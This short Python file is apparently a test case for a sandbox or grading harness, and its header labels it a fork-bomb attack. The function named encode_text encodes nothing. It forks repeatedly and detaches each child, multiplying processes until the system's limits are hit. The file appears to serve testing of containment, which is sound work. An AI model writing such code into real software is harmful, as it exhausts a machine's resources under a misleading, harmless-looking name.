# attack: forks until nothing more will, every child as well
# covers: fork bombs
# exercise: ex01
# checks: encode_text_writes_every_script
# rungs: full partial none
# verdict: failed
# diagnosis: no_answer too_many_threads raised_unexpectedly crashed
# holds: it is stopped long before the machine is full, and nothing of it is left
import os
import time


def encode_text(text, encoding="utf-8"):
    for _ in range(11):  # 2 ** 11 would be all of them
        if os.fork() == 0:
            os.setsid()
    time.sleep(60)
    os._exit(0)
